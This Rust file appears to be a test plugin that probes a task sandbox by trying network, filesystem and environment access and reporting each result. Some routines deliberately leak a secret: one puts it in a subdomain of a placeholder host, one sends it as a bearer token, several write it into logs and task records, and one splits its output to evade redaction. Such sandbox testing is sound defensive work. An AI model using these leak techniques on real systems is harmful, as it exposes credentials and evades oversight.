//! Reaches for what is outside of the sandbox. Each line of its input is one attempt; what came of it is printed.

use std::error::Error;
use std::fs;
use std::io::{self, Write};
use std::net::{TcpStream, ToSocketAddrs, UdpSocket};

use task_state_guest::{
    Failure, Plugin, Precondition, TaskDraft, TaskRecord, TaskResult, TaskStatus, current_task, repository,
};
use wstd::http::body::util::BodyExt;
use wstd::http::{Body, Client, Request, Response};
use wstd::runtime::block_on;
use wstd::time::Duration;

struct Reach;

impl Plugin for Reach {
    fn run(task: TaskRecord) -> Result<(), Failure> {
        for line in io::read_to_string(io::stdin())?.lines() {
            let words: Vec<&str> = line.split(' ').collect();
            match &words[..] {
                ["print-in-pieces", name] => print_in_pieces(&secret(name)?)?,
                ["tell", name] => tell(&task, &secret(name)?)?,
                ["save", name] => save(&secret(name)?)?,
                ["fail", name] => return Err(format!("failed with {}", secret(name)?).into()),
                _ => match attempt(&words) {
                    Ok(said) => println!("{line}: {said}"),
                    Err(failure) => println!("{line}: error: {}", describe(&*failure)),
                },
            }
        }
        Ok(())
    }
}

task_state_guest::export!(Reach);

/// An error and what it comes from.
fn describe(error: &dyn Error) -> String {
    let source = error.source().map(|source| format!(": {}", describe(source)));
    format!("{error}{}", source.unwrap_or_default())
}

fn attempt(words: &[&str]) -> Result<String, Failure> {
    Ok(match words {
        ["get", url] => show(block_on(send(Client::new(), "GET", url, Body::empty()))?),
        ["connect", url] => show(block_on(send(Client::new(), "CONNECT", url, Body::empty()))?),
        ["get-at", name] => {
            show(block_on(send(Client::new(), "GET", &format!("http://{}.example/", secret(name)?), Body::empty()))?)
        }
        ["get-with", url, name] => block_on(get_with(url, &secret(name)?))?,
        ["post", url, bytes] => {
            show(block_on(send(Client::new(), "POST", url, Body::from(vec![b'x'; bytes.parse()?])))?)
        }
        ["get-soon", url] => {
            let mut client = Client::new();
            client.set_first_byte_timeout(Duration::from_millis(100));
            show(block_on(send(client, "GET", url, Body::empty()))?)
        }
        ["follow", url] => block_on(follow(url))?,
        ["count", url] => block_on(count(url))?,
        ["open", urls @ ..] => block_on(open(urls))?,
        ["read", path] => fs::read_to_string(path)?,
        ["list", path] => {
            let mut names = Vec::new();
            for entry in fs::read_dir(path)? {
                names.push(entry?.file_name().to_string_lossy().into_owned());
            }
            names.sort();
            names.join(" ")
        }
        ["write", path] => fs::write(path, "written").map(|()| "written".to_owned())?,
        ["append", path] => {
            fs::OpenOptions::new().append(true).open(path)?.write_all(b"more").map(|()| "written".to_owned())?
        }
        ["truncate", path] => fs::OpenOptions::new().write(true).truncate(true).open(path).map(|_| "cut".to_owned())?,
        ["make", path] => fs::create_dir(path).map(|()| "made".to_owned())?,
        ["remove", path] => fs::remove_file(path).map(|()| "removed".to_owned())?,
        ["rename", from, to] => fs::rename(from, to).map(|()| "renamed".to_owned())?,
        ["hard-link", from, to] => fs::hard_link(from, to).map(|()| "linked".to_owned())?,
        ["env", name] => std::env::var(name)?,
        ["variables"] => std::env::vars().map(|(name, _)| name).collect::<Vec<_>>().join(" "),
        ["arguments"] => std::env::args().count().to_string(),
        ["look-up", name] => format!("{} addresses", (*name, 80).to_socket_addrs()?.count()),
        ["tcp", address] => TcpStream::connect(address).map(|_| "connected".to_owned())?,
        ["udp", address] => UdpSocket::bind(address).map(|_| "bound".to_owned())?,
        _ => return Err("no such attempt".into()),
    })
}

fn secret(name: &str) -> Result<String, Failure> {
    Ok(std::env::var(name)?)
}

type Http<T> = Result<T, wstd::http::Error>;

async fn send(client: Client, method: &str, url: &str, body: Body) -> Http<(u16, String)> {
    let request = Request::builder().method(method).uri(url).body(body)?;
    read(client.send(request).await?).await
}

async fn read(response: Response<Body>) -> Http<(u16, String)> {
    let status = response.status().as_u16();
    let mut body = response.into_body();
    let text = String::from_utf8_lossy(body.contents().await?).into_owned();
    Ok((status, text))
}

fn show((status, body): (u16, String)) -> String {
    format!("{status} {body}")
}

async fn get_with(url: &str, token: &str) -> Http<String> {
    let request = Request::get(url).header("authorization", format!("Bearer {token}")).body(Body::empty())?;
    read(Client::new().send(request).await?).await.map(show)
}

async fn follow(url: &str) -> Http<String> {
    let response = Client::new().send(Request::get(url).body(Body::empty())?).await?;
    let location = response.headers().get("location").map(|to| to.to_str().map(str::to_owned)).transpose()?;
    send(Client::new(), "GET", &location.unwrap_or_default(), Body::empty()).await.map(show)
}

/// Reads a body piece by piece, and keeps none of it.
async fn count(url: &str) -> Http<String> {
    let response = Client::new().send(Request::get(url).body(Body::empty())?).await?;
    let mut body = response.into_body().into_boxed_body();
    let mut bytes = 0;
    while let Some(frame) = body.frame().await {
        bytes += frame?.data_ref().map_or(0, |data| data.len());
    }
    Ok(format!("{bytes} bytes"))
}

/// Has several responses at once, none of which it reads.
async fn open(urls: &[&str]) -> Http<String> {
    let mut responses = Vec::new();
    for url in urls {
        responses.push(Client::new().send(Request::get(*url).body(Body::empty())?).await?);
    }
    Ok(format!("{} open", responses.len()))
}

fn print_in_pieces(secret: &str) -> io::Result<()> {
    let (first, second) = secret.split_at(secret.len() / 2);
    print!("printed: {first}");
    io::stdout().flush()?;
    eprint!("{second}");
    println!(".");
    Ok(())
}

/// Says a secret of its task in every way there is.
fn tell(task: &TaskRecord, secret: &str) -> Result<(), Failure> {
    current_task::log(format!("logged: {secret}"))?;
    current_task::set_status(TaskStatus::Running, &*format!("with a status: {secret}"))?;
    current_task::set_active_jobs([secret.to_owned()])?;
    current_task::update_result(TaskResult::new().pod_status(format!("pod {secret}")))?;
    repository::append_logs(&task.task_id, [format!("appended: {secret}")])?;
    repository::set_status(&task.task_id, TaskStatus::Running, &*format!("set: {secret}"))?;
    Ok(())
}

/// Saves another task with a secret in all of its texts.
fn save(secret: &str) -> Result<(), Failure> {
    let quoted = secret.replace('\\', "\\\\").replace('"', "\\\"").replace('\n', "\\n");
    let draft = TaskDraft::new("analytics", format!("u-{secret}"))
        .task_id(format!("t-{secret}"))
        .parameters(format!("{{\"{quoted}\": [\"{quoted}\"]}}"))
        .active_jobs([secret.to_owned()])
        .logs([format!("t,{secret}")])
        .result(TaskResult::new().pod_status(secret).launcher_output(secret));
    let id = repository::save(draft, Precondition::None)?;
    let found = repository::get(&format!("t-{secret}"))?;
    repository::update_result(&id, TaskResult::new().pod_status(secret))?;
    println!("saved {id}, found {}", found.task_id);
    Ok(())
}
